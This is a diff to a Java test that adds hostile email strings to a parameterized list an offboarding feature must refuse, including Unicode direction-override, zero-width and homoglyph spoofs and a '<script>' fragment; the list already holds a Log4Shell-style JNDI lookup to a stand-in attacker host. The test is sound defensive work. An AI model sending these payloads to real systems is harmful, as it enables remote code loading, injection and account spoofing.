@@ -103,6 +103,14 @@ class OffboardingAbuseTest {
             "@example.com",
             "alice example@example.com",
             "${jndi:ldap://evil.example/a}",
+            "alice\u202E@example.com",
+            "al\u200Bice@example.com",
+            "\u0430lice@example.com",
+            "alice@ex\u0430mple.com",
+            "<script>@x.com",
+            "al..ice@example.com",
+            "alice@example",
+            " alice@example.com",
             "",
             " "})
     void aHostileEmailIsRefusedAndChangesNothing(String email) {
